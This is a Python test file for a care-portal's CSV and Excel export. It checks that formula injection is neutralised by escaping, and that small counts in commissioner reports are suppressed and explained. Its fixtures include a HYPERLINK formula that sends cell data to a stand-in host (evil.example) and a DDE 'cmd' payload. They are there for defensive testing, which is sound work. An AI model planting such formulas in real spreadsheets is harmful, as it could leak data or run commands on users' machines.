"""Safe spreadsheet export: formulas typed into the portal open as text, in CSV and Excel."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from core.actions.export import COLUMNS, register_rows
from core.actions.queries import RegisterFilters, register
from core.clock import utcnow
from core.config import settings
from core.db import read_session
from core.exports import escape_formula, to_csv, to_xlsx
from tests.builders import build_org
from tests.conftest import built_once
from tests.integration.test_reminders import local_today, make_action

BOM = b"\xef\xbb\xbf"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
DANGEROUS = (HYPERLINK, "@SUM(A1)", "\t=1+1", "+1+1", "-2+3", "=cmd|' /C calc'!A0",
             "  =1+1", "\r=1+1")
UNICODE = "Prüfung — grab rail ✓ 扶手 ﻿é"


@pytest.fixture
def org(engine, db_url: str):
    return built_once("org", db_url, build_org)  # built once, copied per test


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_text_is_made_inert(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Fit a grab rail", "a=b", "", "e-mail", "'=1", 3, 2.5,
                                   -4, date(2025, 3, 10)])
def test_other_values_pass_through(value):
    assert escape_formula(value) == value


def test_none_becomes_empty():
    assert escape_formula(None) == ""


def test_csv_and_xlsx_open_formulas_as_text_and_keep_numbers_dates_and_unicode():
    rows = [{"Text": text, "Number": n, "Ratio": 0.25, "Day": date(2025, 3, 10),
             "At": datetime(2025, 3, 10, 9, 30), "Empty": None, "Name": UNICODE}
            for n, text in enumerate(DANGEROUS)]
    table = read_csv(to_csv(rows))
    assert table[0] == ["Text", "Number", "Ratio", "Day", "At", "Empty", "Name"]
    for n, (text, line) in enumerate(zip(DANGEROUS, table[1:], strict=True)):
        assert line == ["'" + text, str(n), "0.25", "2025-03-10", "2025-03-10 09:30:00", "",
                        UNICODE]

    sheet = read_xlsx(to_xlsx(rows, sheet="Export"))
    assert sheet.title == "Export" and sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == table[0] and all(c.font.b for c in sheet[1])
    for n, text in enumerate(DANGEROUS):
        cells = sheet[n + 2]
        # Line ends are kept as Excel keeps them in a cell: "\n".
        assert cells[0].value == "'" + text.replace("\r", "\n") and cells[0].data_type == "s"
        assert cells[1].value == n and cells[1].data_type == "n"
        assert cells[2].value == 0.25
        assert cells[3].value == datetime(2025, 3, 10) and cells[3].is_date
        assert cells[4].value == datetime(2025, 3, 10, 9, 30) and cells[4].is_date
        assert cells[5].value is None
        assert cells[6].value == UNICODE
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert 8 <= sheet.column_dimensions["A"].width <= 60


def test_no_rows_gives_an_empty_but_valid_file():
    assert to_csv([]) == BOM
    assert read_xlsx(to_xlsx([])).max_row == 1


def test_the_action_register_exports_safely_on_both_databases(engine, org):
    titles = [HYPERLINK, "@SUM(A1)", "+1+1", "-2+3", UNICODE]
    make_action(engine, org, title=titles[0], plan_title="=1+1 plan",
                extra_titles=tuple(titles[1:]))
    today = local_today()
    with read_session(engine) as session:
        rows = register(session, org.actor("quality"), RegisterFilters(),
                        today=today + timedelta(days=4), rules=settings())
    exported = register_rows(rows)
    assert list(exported[0]) == list(COLUMNS)
    deadline = today + timedelta(days=10)

    table = read_csv(to_csv(exported))
    assert table[0] == list(COLUMNS)
    by_title = {line[0]: dict(zip(COLUMNS, line, strict=True)) for line in table[1:]}
    assert set(by_title) == {escape_formula(t) for t in titles}
    first = by_title["'" + HYPERLINK]
    assert first["Plan"] == "'=1+1 plan" and first["Owner"] == "Supervisor"
    assert first["Service"] == "Maple House" and first["Status"] == "Planned"
    assert first["Strength"] == "Stronger" and first["Deadline"] == deadline.isoformat()
    assert first["Evidence checks"] == "0 of 1" and first["Deadline state"] == "Due soon"
    assert first["Go-live"] == "" and first["Sustainment check due"] == ""
    assert UNICODE in by_title

    sheet = read_xlsx(to_xlsx(exported))
    assert sheet.title == "Actions"
    header = [c.value for c in sheet[1]]
    assert header == list(COLUMNS)
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == {escape_formula(t) for t in titles}
    for title in titles:
        row = cells[escape_formula(title)]
        assert row[0].data_type == "s"
        assert row[1].value == "'=1+1 plan" and row[1].data_type == "s"
        assert row[header.index("Deadline")].value == datetime.combine(deadline,
                                                                       datetime.min.time())


def test_characters_excel_cannot_hold_are_dropped_before_escaping():
    sheet = read_xlsx(to_xlsx([{"Text": "\x01=1+1", "Other": "ok\x07"}]))
    assert sheet["A2"].value == "'=1+1" and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == "ok"


# -- notes on the labels -------------------------------------------------------------------------

def test_csv_notes_go_at_the_foot_after_an_empty_line_and_are_escaped():
    data = to_csv([{"Type": "Falls", "Maple": 12}], notes=["fewer than 5: 1 to 4", "=1+1"])
    lines = read_csv(data)
    assert lines[0] == ["Type", "Maple"]  # the header stays first
    assert lines[1:] == [["Falls", "12"], [], ["Notes"], ["fewer than 5: 1 to 4"], ["'=1+1"]]


def _commissioner_data(engine, org):
    """A table with a small count (2) and three cells hidden only to protect it."""
    from core.filing.service import file_near_miss
    from core.uow import UnitOfWork
    from tests.builders import draft, local_now

    when = local_now() - timedelta(days=5)
    for n, changes in ((10, {}), (2, {"service_id": org.oak, "location_id": org.oak_lounge}),
                       (7, {"type_key": "transport"}),
                       (8, {"type_key": "transport", "service_id": org.oak,
                            "location_id": org.oak_lounge})):
        for _ in range(n):
            file_near_miss(UnitOfWork(engine), org.actor("quality"),
                           draft(org, occurred_at=when, **changes), now=utcnow(), rules=settings())
    today = local_today()
    return today - timedelta(days=30), today + timedelta(days=1)


def test_commissioner_exports_label_hidden_cells_distinctly_and_explain_them(engine, org):
    from core.commissioner import views as cv
    from core.commissioner.period import Period
    from core.exports.pack import export_tables
    from core.exports.spreadsheet import to_xlsx_book
    from core.metrics.governance import Scope

    start, end = _commissioner_data(engine, org)
    period = Period(start, end, "the last 30 days")
    commissioner = org.actor("commissioner")
    with read_session(engine) as session:
        sheets = export_tables(session, commissioner, period, "commissioner", rules=settings(),
                               now=utcnow())
        by_type = cv.breakdown(session, commissioner, Scope(start, end), "type", rules=settings())
    by_service = {row["Type"]: row for row in sheets["By service and type"]}
    falls, transport = by_service["Transfer / near fall"], by_service["Transport"]
    assert falls["Oak Lodge"] == "fewer than 5"  # truly 2
    # 10, 7 and 8 are hidden only to protect the 2: never "fewer than 5".
    assert [falls["Maple House"], transport["Maple House"], transport["Oak Lodge"]] == \
        ["suppressed"] * 3
    assert by_service["Total"]["Total"] == 27 and falls["Total"] == 12
    # The page's totals by type are the table's: the same figures hidden, the same shown.
    assert {label: cell.export() for label, cell in by_type.rows} == \
        {row["Type"]: row["Total"] for row in sheets["By service and type"][:-1]}
    notes = {row["Term"]: row["What it means"] for row in sheets["Notes"]}
    assert "1 to 4" in notes["fewer than 5"] and "protect another" in notes["suppressed"]
    assert notes["0"].startswith("none")
    assert notes["By time and type"].startswith(("By week", "By month", "By quarter"))
    assert "the rule allows" in notes["By time and type"]

    book = load_workbook(io.BytesIO(to_xlsx_book(sheets)))
    assert book.sheetnames == ["By service and type", "By time and type", "Actions",
                               "Action evidence", "Notes"]
    terms = [row[0].value for row in book["Notes"].iter_rows(min_row=2)]
    assert {"fewer than 5", "suppressed", "0", "By time and type"} <= set(terms)
    assert book["Notes"]["B3"].alignment.wrap_text  # long notes stay readable


def test_the_cli_csv_carries_the_notes_at_its_foot(engine, org, tmp_path):
    from typer.testing import CliRunner

    from ops.cli import app

    start, end = _commissioner_data(engine, org)
    out = tmp_path / "by-time.csv"
    result = CliRunner().invoke(app, [
        "export", "--format", "csv", "--period", f"{start}..{end - timedelta(days=1)}",
        "--table", "by_week_and_type", "--out", str(out)])  # the table's former name
    assert result.exit_code == 0, result.output
    lines = read_csv(out.read_bytes())
    assert lines[0][0] == "Type"
    foot = lines[lines.index(["Notes"]) + 1:]
    assert lines[lines.index(["Notes"]) - 1] == []
    assert any(line[0].startswith("fewer than 5: the count is from 1 to 4") for line in foot)
    assert any(line[0].startswith("suppressed: hidden so that") for line in foot)
    assert any(line[0].startswith("By time and type: By ") for line in foot)
